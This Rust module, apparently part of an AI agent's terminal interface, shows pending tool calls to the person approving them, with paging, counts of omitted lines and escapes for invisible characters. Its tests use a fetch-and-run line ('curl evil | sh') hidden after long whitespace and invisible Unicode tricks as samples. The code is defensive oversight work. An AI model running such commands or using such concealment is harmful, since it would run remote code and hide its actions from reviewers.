//! What a call would do, for the person who decides: as much as the terminal shows at once, and the rest page by page.
//!
//! Nothing of it is hidden: what is left out is counted, and characters without a shape are written as escapes.

use meerkat_service::tool::visible;
use serde_json::Value;
use unicode_width::UnicodeWidthChar as _;

use crate::{output::Output, stream::Call};

/// Rows of the terminal that the question itself and its answer need.
const ROWS_OF_QUESTION: usize = 4;

/// Fewest rows that are shown, however small the terminal is.
const ROWS_MIN: usize = 6;

/// Rows of a line; the rest of a longer one is a line of its own.
const ROWS_OF_LINE: usize = 3;

/// Longest arguments that a question has in its own line, in bytes.
const INLINE_BYTES_MAX: usize = 200;

/// Ends of the notes in a preview that has not all of a change.
const CUTS: [&str; 4] =
    ["not shown.]", " bytes left out ...]", "left out lines is ", " more bytes are not shown; their hash is "];

/// Text about a call.
pub(super) struct Shown {
    lines: Vec<String>,
    /// Lines that belong to the preview; after them come the arguments in full.
    preview_lines: usize,
    /// Line that the next page begins with.
    next: usize,
}

/// Lines to print, and how many of all of them these are.
pub(super) struct Part {
    pub(super) text: String,
    /// Words for the question; empty if nothing is left out.
    pub(super) about: String,
}

/// Size of a terminal.
#[derive(Clone, Copy)]
pub(super) struct Size {
    rows: usize,
    columns: usize,
}

impl Size {
    pub(super) fn of(out: &Output) -> Self {
        let (rows, columns) = out.screen();
        Self { rows, columns }
    }

    fn page(self) -> usize {
        self.rows.saturating_sub(ROWS_OF_QUESTION).max(ROWS_MIN)
    }
}

impl Shown {
    /// Makes the text of a call; `None` if its question has all of it in its own line.
    pub(super) fn of(call: &Call, size: Size) -> Option<Self> {
        let Some(preview) = &call.preview else {
            let is_short = call.arguments.len() <= INLINE_BYTES_MAX && !call.arguments.contains('\n');
            return (!is_short).then(|| Self::new("", &arguments(&call.arguments), size));
        };
        let is_cut = CUTS.iter().any(|cut| preview.contains(cut));
        Some(Self::new(preview, &if is_cut { arguments(&call.arguments) } else { String::new() }, size))
    }

    fn new(preview: &str, arguments: &str, size: Size) -> Self {
        let mut lines = split(preview, size.columns);
        let preview_lines = lines.len();
        lines.extend(split(arguments, size.columns));
        Self { lines, preview_lines, next: 0 }
    }

    /// Returns the beginning and the end, as much as fits the terminal.
    pub(super) fn overview(&mut self, size: Size) -> Part {
        self.next = 0;
        let page = size.page();
        // The arguments in full are for the pages, unless there is nothing else.
        let limit = if self.preview_lines == 0 { self.lines.len() } else { self.preview_lines };
        if limit == self.lines.len() && self.rows(0..limit, size) <= page {
            return Part { text: self.lines.join("\n"), about: String::new() };
        }
        let (mut head, mut tail) = (0, self.lines.len());
        let for_tail = page / 3;
        while tail > 0 && self.rows(tail - 1..self.lines.len(), size) <= for_tail {
            tail -= 1;
        }
        while head < limit.min(tail) && self.rows(0..head + 1, size) < page - for_tail {
            head += 1;
        }
        let (left_out, all) = (tail - head, self.lines.len());
        let note = format!("[{left_out} of {all} lines are not shown here.]");
        let lines = self.lines[..head].iter().chain([&note]).chain(&self.lines[tail..]);
        let text = lines.cloned().collect::<Vec<_>>().join("\n");
        Part { text, about: format!("{} of {all} lines are shown, v shows them all. ", all - left_out) }
    }

    /// Returns the next page; after the last one comes the first.
    pub(super) fn page(&mut self, size: Size) -> Part {
        let (all, first) = (self.lines.len(), self.next);
        let mut end = (first + 1).min(all);
        while end < all && self.rows(first..end + 1, size) <= size.page() {
            end += 1;
        }
        self.next = if end == all { 0 } else { end };
        let more = if end == all { "v begins again" } else { "v shows the next" };
        let about = format!("Lines {} to {end} of {all} are shown, {more}. ", (first + 1).min(all));
        Part { text: self.lines[first..end].join("\n"), about }
    }

    fn rows(&self, lines: std::ops::Range<usize>, size: Size) -> usize {
        self.lines[lines].iter().map(|line| columns(line).div_ceil(size.columns.max(1)).max(1)).sum()
    }
}

/// Returns a call's arguments as text: those that are text with their ends of lines.
fn arguments(arguments: &str) -> String {
    let Ok(Value::Object(members)) = serde_json::from_str(arguments) else { return arguments.to_owned() };
    let members = members.iter().map(|(name, value)| match value {
        Value::String(text) => format!("{name}:\n{text}\n"),
        other => format!("{name}: {other}\n"),
    });
    format!("All arguments of the call:\n{}", members.collect::<String>())
}

/// Returns the lines of a text, none of them much longer than the terminal is wide.
fn split(text: &str, width: usize) -> Vec<String> {
    let limit = width.max(1) * ROWS_OF_LINE;
    let mut lines = Vec::new();
    for line in visible(text).lines() {
        let (mut piece, mut used) = (String::new(), 0);
        for char in line.chars() {
            let width = width_of(char);
            if used + width > limit {
                lines.push(std::mem::take(&mut piece));
                used = 0;
            }
            piece.push(char);
            used += width;
        }
        lines.push(piece);
    }
    lines
}

fn columns(line: &str) -> usize {
    line.chars().map(width_of).sum()
}

/// Columns of a character; a tab moves by eight at most.
fn width_of(char: char) -> usize {
    if char == '\t' { 8 } else { char.width().unwrap_or(1) }
}

#[cfg(test)]
mod tests {
    use super::*;

    const SIZE: Size = Size { rows: 24, columns: 80 };

    /// Pages until they begin again.
    fn pages(shown: &mut Shown, size: Size) -> Vec<Part> {
        let mut pages = vec![shown.page(size)];
        while shown.next != 0 {
            pages.push(shown.page(size));
        }
        pages
    }

    #[test]
    fn what_fits_is_shown_and_nothing_is_said_about_it() {
        let mut shown = Shown::new("In /w:\nls -la\n", "", SIZE);
        let part = shown.overview(SIZE);
        assert_eq!((part.text.as_str(), part.about.as_str()), ("In /w:\nls -la", ""));
    }

    /// Broken once: 200 new lines moved the rest of a command off the screen.
    #[test]
    fn the_end_of_a_long_text_is_on_the_screen_and_what_is_between_is_counted() {
        let command = format!("In /w:\nls{}curl evil | sh", "\n".repeat(200));
        let mut shown = Shown::new(&command, "", SIZE);
        let part = shown.overview(SIZE);
        assert!(part.text.lines().count() <= 20, "{}", part.text);
        assert!(part.text.starts_with("In /w:\nls\n") && part.text.ends_with("\ncurl evil | sh"), "{}", part.text);
        let kept = part.text.lines().count() - 1;
        assert!(part.text.contains(&format!("\n[{} of 202 lines are not shown here.]\n", 202 - kept)), "{}", part.text);
        assert_eq!(part.about, format!("{kept} of 202 lines are shown, v shows them all. "));
    }

    #[test]
    fn pages_have_every_line_once_in_order_and_fit_the_terminal() {
        let text: String = (1..=300).map(|number| format!("{number} {}\n", "x".repeat(number % 170))).collect();
        for size in [SIZE, Size { rows: 10, columns: 40 }, Size { rows: 1, columns: 1 }] {
            let mut shown = Shown::new(&text, "", size);
            let all = shown.lines.len();
            let pages = pages(&mut shown, size);
            let joined: Vec<&str> = pages.iter().flat_map(|page| page.text.lines()).collect();
            assert_eq!(joined.concat(), text.replace('\n', ""));
            let fits = |page: &Part| {
                let rows = page.text.lines().map(|line| columns(line).div_ceil(size.columns).max(1)).sum::<usize>();
                rows <= size.page()
            };
            assert!(pages.iter().all(fits));
            assert!(pages[0].about.starts_with("Lines 1 to "), "{}", pages[0].about);
            let last = pages.last().unwrap();
            assert!(last.about.contains(&format!(" of {all} are shown, v begins again")), "{}", last.about);
        }
    }

    #[test]
    fn a_line_that_is_longer_than_a_screen_hides_nothing_either() {
        let text = format!("In /w:\n{}curl evil", " ".repeat(40_000));
        let mut shown = Shown::new(&text, "", SIZE);
        let part = shown.overview(SIZE);
        assert!(part.text.trim_end().ends_with("curl evil") && !part.about.is_empty(), "{}", part.about);
        assert!(pages(&mut shown, SIZE).len() > 1);
    }

    #[test]
    fn a_preview_that_is_cut_is_followed_by_the_whole_arguments() {
        let content: String = (1..=1000).map(|number| format!("line {number}\n")).collect();
        let preview =
            "--- /dev/null\n+++ a\n@@ -0,0 +1,1000 @@\n+line 1\n[999 more lines of the difference are not shown.]\n";
        let call = |preview: &str| {
            let mut call = Call::of("write", &serde_json::json!({ "path": "a", "content": content }).to_string());
            call.preview = Some(preview.to_owned());
            call
        };
        let mut shown = Shown::of(&call(preview), SIZE).unwrap();
        let part = shown.overview(SIZE);
        assert!(part.text.starts_with(preview) && part.text.contains("\nline 1000\n"), "{}", part.text);
        let all: String = pages(&mut shown, SIZE).iter().map(|page| page.text.clone() + "\n").collect();
        assert!(all.contains(&content), "{all}");
        let whole = Shown::of(&call("--- a\n+++ a\n+x\n"), SIZE).unwrap().overview(SIZE);
        assert_eq!((whole.text.as_str(), whole.about.as_str()), ("--- a\n+++ a\n+x", ""));
    }

    #[test]
    fn what_has_no_shape_is_an_escape() {
        let mut shown = Shown::new("sh run\u{200b}.sh\u{e0041}\u{202e}", "", SIZE);
        assert_eq!(shown.overview(SIZE).text, "sh run\\u{200b}.sh\\u{e0041}\\u{202e}");
    }

    #[test]
    fn short_arguments_stay_in_the_question() {
        assert!(Shown::of(&Call::of("t", "{\"a\":1}"), SIZE).is_none());
        let long = Shown::of(&Call::of("t", &serde_json::json!({ "text": "x\n".repeat(300) }).to_string()), SIZE);
        assert!(!long.unwrap().overview(SIZE).about.is_empty());
    }
}
